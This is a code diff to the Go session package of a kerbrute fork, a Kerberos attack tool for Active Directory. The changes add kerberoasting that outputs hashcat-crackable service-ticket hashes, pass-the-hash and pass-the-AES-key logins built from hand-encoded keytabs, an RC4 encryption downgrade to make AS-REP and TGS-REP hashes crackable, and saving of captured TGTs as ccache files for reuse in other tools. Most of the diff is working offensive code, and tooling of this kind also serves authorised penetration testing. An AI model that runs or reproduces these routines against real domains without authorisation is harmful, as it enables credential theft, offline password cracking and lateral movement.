@@ -1,18 +1,29 @@
 package session
 
 import (
+	"bytes"
 	"context"
+	"encoding/binary"
+	"encoding/hex"
 	"fmt"
 	"github.com/mr-pmillz/kerbrute/util"
 	"html/template"
 	"os"
+	"path/filepath"
 	"strings"
+	"sync"
+	"time"
 
 	"github.com/mr-pmillz/gokrb5/v8/iana/errorcode"
+	"github.com/mr-pmillz/gokrb5/v8/iana/etypeID"
 
 	kclient "github.com/mr-pmillz/gokrb5/v8/client"
 	kconfig "github.com/mr-pmillz/gokrb5/v8/config"
+	"github.com/mr-pmillz/gokrb5/v8/credentials"
+	"github.com/mr-pmillz/gokrb5/v8/iana/nametype"
+	"github.com/mr-pmillz/gokrb5/v8/keytab"
 	"github.com/mr-pmillz/gokrb5/v8/messages"
+	"github.com/mr-pmillz/gokrb5/v8/types"
 )
 
 const krb5ConfigTemplateDNS = `[libdefaults]
@@ -39,7 +50,20 @@ type KerbruteSession struct {
 	Verbose      bool
 	SafeMode     bool
 	HashFile     *os.File
-	Logger       *util.Logger
+	CcacheDir    string
+	// Client is set when the session was constructed from an existing
+	// ccache (see NewKerbruteSessionFromCCache) and already holds a TGT,
+	// letting callers skip re-authentication.
+	Client *kclient.Client
+	// Username/Password are only used by EnsureClient/RoastSPN, to obtain a
+	// TGT lazily when the session wasn't built from a ccache.
+	Username string
+	Password string
+	Logger   *util.Logger
+	// clientMu guards lazy initialization of Client. kerberoast calls
+	// RoastSPN for many SPNs concurrently against one shared session, so
+	// this protects the check-then-set against a data race.
+	clientMu *sync.Mutex
 }
 
 // KerbruteSessionOptions ...
@@ -50,10 +74,30 @@ type KerbruteSessionOptions struct {
 	SafeMode         bool
 	Downgrade        bool
 	HashFilename     string
-	Socks5Proxy      string // "host:port"
-	Socks5Username   string
-	Socks5Password   string
-	logger           *util.Logger
+	// CcacheDir, when set, makes TestLogin write a MIT-format ccache file
+	// for every successful login so the TGT can be reused by other tools.
+	CcacheDir string
+	// Krb5ConfPath, when set, is loaded via kconfig.Load instead of
+	// synthesizing krb5.conf from Domain/DomainController, so operators can
+	// supply realm referrals, capath, multiple KDCs, and DNS-canonicalization
+	// settings the built-in template can't express.
+	Krb5ConfPath string
+	// Enctypes restricts the encryption types offered/accepted to this list
+	// (e.g. []string{"aes256-cts-hmac-sha1-96", "rc4-hmac"}). rc4-hmac is
+	// rejected unless AllowWeakCrypto is also set; des types are not
+	// supported by gokrb5 and are always rejected. Takes precedence over
+	// the blunter Downgrade switch.
+	Enctypes        []string
+	AllowWeakCrypto bool
+	// Username/Password are the credentials EnsureClient/RoastSPN log in
+	// with to obtain a TGT lazily. TestLogin does not store its client on
+	// the session, so it never provides that TGT.
+	Username       string
+	Password       string
+	Socks5Proxy    string // "host:port"
+	Socks5Username string
+	Socks5Password string
+	logger         *util.Logger
 }
 
 func NewKerbruteSession(options KerbruteSessionOptions) (k KerbruteSession, err error) {
@@ -77,10 +121,20 @@ func NewKerbruteSession(options KerbruteSessionOptions) (k KerbruteSession, err
 	}
 
 	realm := strings.ToUpper(options.Domain)
-	configstring := buildKrb5Template(realm, options.DomainController)
-	Config, err := kconfig.NewFromString(configstring)
-	if err != nil {
-		panic(err)
+	var configstring string
+	var Config *kconfig.Config
+	if options.Krb5ConfPath != "" {
+		Config, err = kconfig.Load(options.Krb5ConfPath)
+		if err != nil {
+			return k, fmt.Errorf("couldn't load krb5 config from %s: %w", options.Krb5ConfPath, err)
+		}
+		options.logger.Log.Infof("Using krb5 config from %s", options.Krb5ConfPath)
+	} else {
+		configstring = buildKrb5Template(realm, options.DomainController)
+		Config, err = kconfig.NewFromString(configstring)
+		if err != nil {
+			panic(err)
+		}
 	}
 
 	// Configure SOCKS5 proxy if provided
@@ -103,10 +157,25 @@ func NewKerbruteSession(options KerbruteSessionOptions) (k KerbruteSession, err
 	configWithContext := Config.WithContext(ctx)
 
 	if options.Downgrade {
-		configWithContext.LibDefaults.DefaultTktEnctypeIDs = []int32{23} // downgrade to arcfour-hmac-md5 for crackable AS-REPs
+		// Downgrade both AS-REQ and TGS-REQ enctypes so captured AS-REPs and
+		// kerberoasted TGS-REPs are both crackable as arcfour-hmac-md5.
+		configWithContext.LibDefaults.DefaultTktEnctypeIDs = []int32{23}
+		configWithContext.LibDefaults.DefaultTGSEnctypeIDs = []int32{23}
+		configWithContext.LibDefaults.PermittedEnctypeIDs = []int32{23}
 		options.logger.Log.Info("Using downgraded encryption: arcfour-hmac-md5")
 	}
 
+	if len(options.Enctypes) > 0 {
+		etypeIDs, err := resolveEnctypes(options.Enctypes, options.AllowWeakCrypto)
+		if err != nil {
+			return k, err
+		}
+		configWithContext.LibDefaults.DefaultTktEnctypeIDs = etypeIDs
+		configWithContext.LibDefaults.DefaultTGSEnctypeIDs = etypeIDs
+		configWithContext.LibDefaults.PermittedEnctypeIDs = etypeIDs
+		options.logger.Log.Infof("Using encryption types: %s", strings.Join(options.Enctypes, ","))
+	}
+
 	// Use the config with context for all KDC operations
 	_, kdcs, err := configWithContext.GetKDCs(realm, false)
 	if err != nil {
@@ -122,11 +191,39 @@ func NewKerbruteSession(options KerbruteSessionOptions) (k KerbruteSession, err
 		Verbose:      options.Verbose,
 		SafeMode:     options.SafeMode,
 		HashFile:     hashFile,
+		CcacheDir:    options.CcacheDir,
+		Username:     options.Username,
+		Password:     options.Password,
 		Logger:       options.logger,
+		clientMu:     new(sync.Mutex),
 	}
 	return k, err
 }
 
+// NewKerbruteSessionFromCCache builds a KerbruteSession around a pre-obtained
+// TGT loaded from an existing ccache file, rather than authenticating with a
+// username and password. The returned session's Client already holds the TGT,
+// so callers can go straight to TestUsername or kerberoasting without calling
+// TestLogin first.
+func NewKerbruteSessionFromCCache(path string, options KerbruteSessionOptions) (k KerbruteSession, err error) {
+	k, err = NewKerbruteSession(options)
+	if err != nil {
+		return k, err
+	}
+
+	cc, err := credentials.LoadCCache(path)
+	if err != nil {
+		return k, fmt.Errorf("couldn't load ccache %s: %w", path, err)
+	}
+
+	cl, err := kclient.NewFromCCache(cc, k.Config, kclient.DisablePAFXFAST(true))
+	if err != nil {
+		return k, fmt.Errorf("couldn't build a client from ccache %s: %w", path, err)
+	}
+	k.Client = cl
+	return k, nil
+}
+
 func buildKrb5Template(realm, domainController string) string {
 	data := map[string]interface{}{
 		"Realm":            realm,
@@ -146,12 +243,141 @@ func buildKrb5Template(realm, domainController string) string {
 	return builder.String()
 }
 
+// weakEtypeIDs are etypes an operator must explicitly opt into via
+// AllowWeakCrypto, since they're the point of a deliberate AS-REP-roast
+// downgrade (rc4-hmac) rather than a type anyone wants by default.
+var weakEtypeIDs = map[int32]bool{etypeID.RC4_HMAC: true}
+
+// resolveEnctypes turns a list of enctype names into the etype IDs
+// gokrb5's LibDefaults expects, rejecting anything unknown, unsupported by
+// this build of gokrb5, or weak (unless allowWeakCrypto is set).
+func resolveEnctypes(names []string, allowWeakCrypto bool) ([]int32, error) {
+	ids := make([]int32, 0, len(names))
+	for _, name := range names {
+		name = strings.TrimSpace(strings.ToLower(name))
+		id := etypeID.EtypeSupported(name)
+		if id == 0 {
+			return nil, fmt.Errorf("encryption type %q is not known or not supported by this build of gokrb5", name)
+		}
+		if weakEtypeIDs[id] && !allowWeakCrypto {
+			return nil, fmt.Errorf("encryption type %q is weak; set AllowWeakCrypto to use it anyway", name)
+		}
+		ids = append(ids, id)
+	}
+	return ids, nil
+}
+
 func (k KerbruteSession) TestLogin(username, password string) (bool, error) {
 	Client := kclient.NewWithPassword(username, k.Realm, password, k.Config, kclient.DisablePAFXFAST(true), kclient.AssumePreAuthentication(true))
 	defer Client.Destroy()
 	if ok, err := Client.IsConfigured(); !ok {
 		return false, err
 	}
+
+	asReq, err := messages.NewASReqForTGT(Client.Credentials.Domain(), Client.Config, Client.Credentials.CName())
+	if err != nil {
+		return false, err
+	}
+	asRep, err := Client.ASExchange(k.Realm, asReq, 0)
+	if err == nil {
+		if k.CcacheDir != "" {
+			if cerr := k.saveCCache(username, asRep); cerr != nil {
+				k.Logger.Log.Warningf("[!] %s authenticated but ccache could not be written: %s", username, cerr.Error())
+			}
+		}
+		return true, nil
+	}
+	success, err := k.TestLoginError(err)
+	return success, err
+}
+
+// saveCCache hand-encodes asRep as a version-4 MIT-format ccache file and
+// writes it to k.CcacheDir, so the TGT can be fed into KRB5CCNAME-aware
+// tools (ldapper, impacket, smbclient, ...). gokrb5's credentials.CCache has
+// no public constructor or Marshal method, so the bytes are built directly
+// in the layout credentials.(*CCache).Unmarshal parses back.
+func (k KerbruteSession) saveCCache(username string, asRep messages.ASRep) error {
+	ticket, err := asRep.Ticket.Marshal()
+	if err != nil {
+		return err
+	}
+
+	var buf bytes.Buffer
+	buf.WriteByte(5) // ccache file format tag
+	buf.WriteByte(4) // version 4
+
+	// Header component: a single, zeroed KDC-offset field.
+	writeUint16(&buf, 12)
+	writeUint16(&buf, 1)
+	writeUint16(&buf, 8)
+	buf.Write(make([]byte, 8))
+
+	writeCCachePrincipal(&buf, k.Realm, asRep.CName)
+
+	// Credential block: client principal, then server principal, then the
+	// rest of the fields credentials.(*CCache).Unmarshal's parseCredential
+	// expects. The client principal is written again here (not reused from
+	// DefaultPrincipal above) because each credential carries its own.
+	writeCCachePrincipal(&buf, k.Realm, asRep.CName)
+	writeCCachePrincipal(&buf, asRep.DecryptedEncPart.SRealm, asRep.DecryptedEncPart.SName)
+
+	writeUint16(&buf, uint16(asRep.DecryptedEncPart.Key.KeyType))
+	writeCCacheData(&buf, asRep.DecryptedEncPart.Key.KeyValue)
+	writeUint32(&buf, uint32(asRep.DecryptedEncPart.AuthTime.Unix()))
+	writeUint32(&buf, uint32(asRep.DecryptedEncPart.StartTime.Unix()))
+	writeUint32(&buf, uint32(asRep.DecryptedEncPart.EndTime.Unix()))
+	writeUint32(&buf, uint32(asRep.DecryptedEncPart.RenewTill.Unix()))
+	buf.WriteByte(0) // not an enc-tkt-in-skey credential
+
+	flags := make([]byte, 4)
+	copy(flags, asRep.DecryptedEncPart.Flags.Bytes)
+	buf.Write(flags)
+
+	writeUint32(&buf, 0) // addresses
+	writeUint32(&buf, 0) // auth data
+	writeCCacheData(&buf, ticket)
+	writeCCacheData(&buf, nil) // no second ticket
+
+	path := filepath.Join(k.CcacheDir, fmt.Sprintf("%s@%s.ccache", username, k.Realm))
+	return os.WriteFile(path, buf.Bytes(), 0600)
+}
+
+func writeCCachePrincipal(buf *bytes.Buffer, realm string, name types.PrincipalName) {
+	writeUint32(buf, uint32(name.NameType))
+	writeUint32(buf, uint32(len(name.NameString)))
+	writeCCacheData(buf, []byte(realm))
+	for _, component := range name.NameString {
+		writeCCacheData(buf, []byte(component))
+	}
+}
+
+func writeCCacheData(buf *bytes.Buffer, b []byte) {
+	writeUint32(buf, uint32(len(b)))
+	buf.Write(b)
+}
+
+func writeUint16(buf *bytes.Buffer, v uint16) {
+	var b [2]byte
+	binary.BigEndian.PutUint16(b[:], v)
+	buf.Write(b[:])
+}
+
+func writeUint32(buf *bytes.Buffer, v uint32) {
+	var b [4]byte
+	binary.BigEndian.PutUint32(b[:], v)
+	buf.Write(b[:])
+}
+
+// TestLoginWithKeytab attempts to authenticate as username using the key
+// material in kt instead of a cleartext password, mirroring TestLogin's
+// password-based flow. Entries in kt whose realm doesn't match k.Realm are
+// left for the caller to filter out before invoking this.
+func (k KerbruteSession) TestLoginWithKeytab(username string, kt *keytab.Keytab) (bool, error) {
+	Client := kclient.NewWithKeytab(username, k.Realm, kt, k.Config, kclient.DisablePAFXFAST(true), kclient.AssumePreAuthentication(true))
+	defer Client.Destroy()
+	if ok, err := Client.IsConfigured(); !ok {
+		return false, err
+	}
 	err := Client.Login()
 	if err == nil {
 		return true, err
@@ -160,6 +386,86 @@ func (k KerbruteSession) TestLogin(username, password string) (bool, error) {
 	return success, err
 }
 
+// buildSingleKeyKeytab synthesizes an in-memory keytab holding a single
+// precomputed key, so callers with a raw NT hash or AES key don't need to
+// materialize a .keytab file on disk before calling TestLoginWithKeytab.
+// keytab.Keytab's entry/principal types are unexported, so there's no struct
+// literal to build one with; instead the entry is hand-encoded in the
+// version-2 keytab wire format and fed through the exported Unmarshal.
+func buildSingleKeyKeytab(username, realm string, etype int32, key []byte) (*keytab.Keytab, error) {
+	var entry bytes.Buffer
+	writeUint16(&entry, 1) // NumComponents
+	writeKeytabString(&entry, realm)
+	writeKeytabString(&entry, username)
+	writeUint32(&entry, uint32(nametype.KRB_NT_PRINCIPAL))
+	writeUint32(&entry, uint32(time.Now().Unix()))
+	entry.WriteByte(1) // KVNO8
+	writeUint16(&entry, uint16(etype))
+	writeUint16(&entry, uint16(len(key)))
+	entry.Write(key)
+	writeUint32(&entry, 1) // 32-bit KVNO
+
+	var raw bytes.Buffer
+	raw.WriteByte(5) // keytab file format tag
+	raw.WriteByte(2) // version 2
+	writeUint32(&raw, uint32(entry.Len()))
+	raw.Write(entry.Bytes())
+
+	kt := new(keytab.Keytab)
+	if err := kt.Unmarshal(raw.Bytes()); err != nil {
+		return nil, fmt.Errorf("couldn't build an in-memory keytab for %s@%s: %w", username, realm, err)
+	}
+	return kt, nil
+}
+
+func writeKeytabString(buf *bytes.Buffer, s string) {
+	writeUint16(buf, uint16(len(s)))
+	buf.WriteString(s)
+}
+
+// TestLoginWithHash attempts to authenticate as username using a precomputed
+// NT hash (e.g. from DCSync or secretsdump) instead of a cleartext password.
+// Kerberos's RC4-HMAC (etype 23) key *is* the NT hash, so it's handed to
+// TestLoginWithKeytab directly rather than being derived from a password.
+func (k KerbruteSession) TestLoginWithHash(username, ntHash string) (bool, error) {
+	key, err := hex.DecodeString(ntHash)
+	if err != nil {
+		return false, fmt.Errorf("invalid NT hash %q: %w", ntHash, err)
+	}
+	if len(key) != 16 {
+		return false, fmt.Errorf("NT hash must be 16 bytes, got %d", len(key))
+	}
+	kt, err := buildSingleKeyKeytab(username, k.Realm, 23, key)
+	if err != nil {
+		return false, err
+	}
+	return k.TestLoginWithKeytab(username, kt)
+}
+
+// TestLoginWithAESKey behaves like TestLoginWithHash but for a precomputed
+// AES key. The etype is inferred from the key length: 16 bytes for
+// aes128-cts-hmac-sha1-96, 32 bytes for aes256-cts-hmac-sha1-96.
+func (k KerbruteSession) TestLoginWithAESKey(username, aesKey string) (bool, error) {
+	key, err := hex.DecodeString(aesKey)
+	if err != nil {
+		return false, fmt.Errorf("invalid AES key %q: %w", aesKey, err)
+	}
+	var etype int32
+	switch len(key) {
+	case 16:
+		etype = 17
+	case 32:
+		etype = 18
+	default:
+		return false, fmt.Errorf("AES key must be 16 or 32 bytes, got %d", len(key))
+	}
+	kt, err := buildSingleKeyKeytab(username, k.Realm, etype, key)
+	if err != nil {
+		return false, err
+	}
+	return k.TestLoginWithKeytab(username, kt)
+}
+
 func (k KerbruteSession) TestUsername(username string) (bool, error) {
 	// client here does NOT assume preauthentication (as opposed to the one in TestLogin)
 
@@ -213,3 +519,61 @@ func (k KerbruteSession) DumpASRepHash(asrep messages.ASRep) {
 		}
 	}
 }
+
+// EnsureClient makes sure k.Client is set, authenticating with k.Username
+// and k.Password if the session wasn't already built from a ccache (see
+// NewKerbruteSessionFromCCache) or by an earlier EnsureClient/RoastSPN
+// call; TestLogin does not set k.Client. Callers that
+// fan RoastSPN out across a worker pool should call this once up front so a
+// failed login surfaces immediately instead of being retried independently
+// by every goroutine.
+func (k *KerbruteSession) EnsureClient() error {
+	_, err := k.authenticatedClient()
+	return err
+}
+
+// authenticatedClient returns k.Client, lazily logging in with k.Username
+// and k.Password the first time it's needed. clientMu makes the
+// check-then-set safe to call concurrently.
+func (k *KerbruteSession) authenticatedClient() (*kclient.Client, error) {
+	k.clientMu.Lock()
+	defer k.clientMu.Unlock()
+	if k.Client != nil {
+		return k.Client, nil
+	}
+	if k.Username == "" || k.Password == "" {
+		return nil, fmt.Errorf("no authenticated client or credentials available for kerberoasting")
+	}
+	cl := kclient.NewWithPassword(k.Username, k.Realm, k.Password, k.Config, kclient.DisablePAFXFAST(true), kclient.AssumePreAuthentication(true))
+	if err := cl.Login(); err != nil {
+		return nil, err
+	}
+	k.Client = cl
+	return cl, nil
+}
+
+// RoastSPN requests a service ticket for spn and formats the encrypted
+// portion as a hashcat-crackable string, mirroring DumpASRepHash's AS-REP
+// handling but for TGS-REPs. See EnsureClient for how/when it authenticates.
+func (k *KerbruteSession) RoastSPN(spn string) (string, error) {
+	cl, err := k.authenticatedClient()
+	if err != nil {
+		return "", err
+	}
+
+	tkt, _, err := cl.GetServiceTicket(spn)
+	if err != nil {
+		return "", err
+	}
+
+	hash, err := util.TicketToHashcat(cl.Credentials.CName(), k.Realm, tkt)
+	if err != nil {
+		return "", fmt.Errorf("got a TGS for %s, but couldn't convert it to hash: %w", spn, err)
+	}
+	if k.HashFile != nil {
+		if _, werr := k.HashFile.WriteString(fmt.Sprintf("%s\n", hash)); werr != nil {
+			k.Logger.Log.Errorf("[!] Error writing hash to file: %s", werr.Error())
+		}
+	}
+	return hash, nil
+}